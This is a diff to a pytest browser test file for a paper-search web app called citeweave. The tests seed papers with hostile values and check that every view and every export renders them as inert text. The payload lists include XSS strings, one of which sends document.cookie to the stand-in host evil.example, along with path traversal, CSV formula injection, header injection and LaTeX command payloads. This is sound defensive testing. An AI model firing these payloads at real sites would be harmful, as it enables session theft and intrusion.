@@ -1,7 +1,5 @@
 """Hostile papers and hostile addresses in a real browser: whatever they hold is text, on every view and in every export."""
 
-from __future__ import annotations
-
 import csv
 import json
 from collections.abc import Callable, Iterator
@@ -15,98 +13,49 @@ pytest.importorskip("torch", reason="pip install 'citeweave[minilm]'")
 pytest.importorskip("fastapi", reason="pip install 'citeweave[serve]'")
 pytest.importorskip("playwright", reason="pip install playwright")
 
-from citeweave.corpus.corpus import Corpus
 from citeweave.corpus.ingest import import_papers
 from citeweave.search.build import IndexOptions, build_index
 from citeweave.serve.app import create_app
 from citeweave.serve.options import ServeOptions
 
 MARKUP = [
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "<script src=https://evil.example/x.js></script>",
-    "<script/src=//evil.example/x.js>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)//",
-    '"><img src=x onerror=alert(1)>',
-    "'><img src=x onerror=alert(1)>",
-    "<img src=https://evil.example/pixel.png>",
-    "<img srcset='https://evil.example/1x 1x'>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=https://evil.example/x.js></script>", "<script/src=//evil.example/x.js>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
+    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=https://evil.example/pixel.png>",
+    "<img srcset='https://evil.example/1x 1x'>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=https://evil.example/x.swf>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<base href=https://evil.example/>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>", "<embed src=https://evil.example/x.swf>",
+    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<base href=https://evil.example/>",
     "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
     "<div style=background:url(https://evil.example/y)>",
-    "<form action=https://evil.example/><button>go</button></form>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "＜script＞alert(1)＜/script＞",
-    "<\u2028script>alert(1)</script>\u2029",
-    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
-]
+    "<form action=https://evil.example/><button>go</button></form>", "<a href=javascript:alert(1)>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞",
+    "<\u2028script>alert(1)</script>\u2029", "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
+]  # fmt: skip
 ADDRESSES = [
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)//",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "//evil.example/x",
-    "https://evil.example/?x",
-    'doi:10.1000/x"onclick=alert(1)//',
-    "doi:10.1000/../../evil@evil.example",
-    'arxiv:1234.5678"><script>alert(1)</script>',
-    "../../../../etc/passwd",
-    "..\\..\\windows\\win.ini",
-]
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/?x",
+    'doi:10.1000/x"onclick=alert(1)//', "doi:10.1000/../../evil@evil.example",
+    'arxiv:1234.5678"><script>alert(1)</script>', "../../../../etc/passwd", "..\\..\\windows\\win.ini",
+]  # fmt: skip
 OTHERS = [
-    "';alert(1);//",
-    '";alert(1);//',
-    "`${alert(1)}`",
-    "{{constructor.constructor('alert(1)')()}}",
-    "${7*7}#{7*7}<%= 7*7 %>",
-    "__proto__",
-    "constructor",
-    "expression(alert(1))",
-    "url(https://evil.example/z)",
-    "red;background:url(https://evil.example/q)",
-    "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
-    "\u202etxt.exe\u0007\u001b[31m",
-    "=cmd|' /C calc'!A0",
-    '+HYPERLINK("https://evil.example","x")',
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "} \\input{/etc/passwd} {",
-    "\\write18{id}",
-]
+    "';alert(1);//", '";alert(1);//', "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}",
+    "${7*7}#{7*7}<%= 7*7 %>", "__proto__", "constructor", "expression(alert(1))", "url(https://evil.example/z)",
+    "red;background:url(https://evil.example/q)", "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
+    "\u202etxt.exe\u0007\u001b[31m", "=cmd|' /C calc'!A0", '+HYPERLINK("https://evil.example","x")',
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "} \\input{/etc/passwd} {", "\\write18{id}",
+]  # fmt: skip
 PAYLOADS = [*MARKUP, *ADDRESSES, *OTHERS]
 
 MARKS = """() => [...document.querySelectorAll(
@@ -121,25 +70,14 @@ MARKS = """() => [...document.querySelectorAll(
 def ids(tmp_path_factory: pytest.TempPathFactory, save_bert: Callable[..., Path]) -> dict[str, Any]:
     """An index in which each payload is a paper's id, title, abstract, venue, author and field."""
     place = tmp_path_factory.mktemp("hostile")
-    papers = [
-        {
-            "id": f"x{number}:{payload}",
-            "title": f"{payload} grows",
-            "abstract": f"{payload}. The cell grows. {payload} learns from graphs.",
-            "year": 2000 + number % 20,
-            "venue": payload,
-            "authors": [payload, "A. Reed"],
-            "fields": [payload],
-        }
-        for number, payload in enumerate(PAYLOADS)
-    ]
-    source = place / "source"
-    source.mkdir()
-    (source / "papers.jsonl").write_text("".join(json.dumps(paper) + "\n" for paper in papers))
-    import_papers([source], place / "corpus")
-    corpus = Corpus.open(place / "corpus")
-    options = IndexOptions(device="cpu", sentences=True)
-    build_index(corpus, save_bert(place / "model"), place / "index", options)
+    papers = []
+    for number, payload in enumerate(PAYLOADS):
+        papers.append({"id": f"x{number}:{payload}", "title": f"{payload} grows", "year": 2000 + number % 20})
+        papers[-1] |= {"abstract": f"{payload}. The cell grows. {payload} learns from graphs.", "venue": payload}
+        papers[-1] |= {"authors": [payload, "A. Reed"], "fields": [payload]}
+    (place / "papers.jsonl").write_text("".join(json.dumps(paper) + "\n" for paper in papers))
+    corpus = import_papers([place / "papers.jsonl"], place / "corpus").corpus
+    build_index(corpus, save_bert(place / "model"), place / "index", IndexOptions(device="cpu", sentences=True))
     return {"index": place / "index", "ids": list(corpus.ids)}
 
 
@@ -151,19 +89,12 @@ def site(ids: dict[str, Any], site_of: type[Any]) -> Iterator[Any]:
     site.stop()
 
 
-@pytest.fixture
-def reader(reader_of: Callable[..., Any], site: Any) -> Iterator[Any]:
-    reader = reader_of(site)
-    yield reader
-    reader.close()
-
-
-def test_there_are_many_and_each_reaches_the_index(ids: dict[str, Any]) -> None:
+def test_there_are_many_and_each_reaches_the_index(ids):
     assert len(set(PAYLOADS)) >= 60
     assert len(ids["ids"]) == len(PAYLOADS)
 
 
-def test_hostile_papers_are_text_on_every_view(reader: Any, ids: dict[str, Any]) -> None:
+def test_hostile_papers_are_text_on_every_view(reader, ids):
     page = reader.open("?q=grows&by=words&count=100")
     reader.see(".card")
     assert page.locator(".card").count() >= len(PAYLOADS)
@@ -205,7 +136,7 @@ VISIT = """async (addresses) => {
 }"""
 
 
-def test_hostile_addresses_do_nothing(reader: Any, ids: dict[str, Any]) -> None:
+def test_hostile_addresses_do_nothing(reader, ids):
     """Every view with a payload in its parameters; each payload meets several views, shown or refused."""
     page = reader.open()
     reader.see(".doors")
@@ -223,7 +154,7 @@ def test_hostile_addresses_do_nothing(reader: Any, ids: dict[str, Any]) -> None:
         assert page.evaluate(MARKS) == []
 
 
-def test_exports_of_hostile_papers_are_harmless(reader: Any, ids: dict[str, Any], tmp_path: Path) -> None:
+def test_exports_of_hostile_papers_are_harmless(reader, ids, tmp_path):
     told = {}
     for format, ending in (("bibtex", "bib"), ("csv", "csv"), ("json", "json")):
         answer = reader.page.request.post(reader.site.address + "export", data={"format": format, "ids": ids["ids"]})
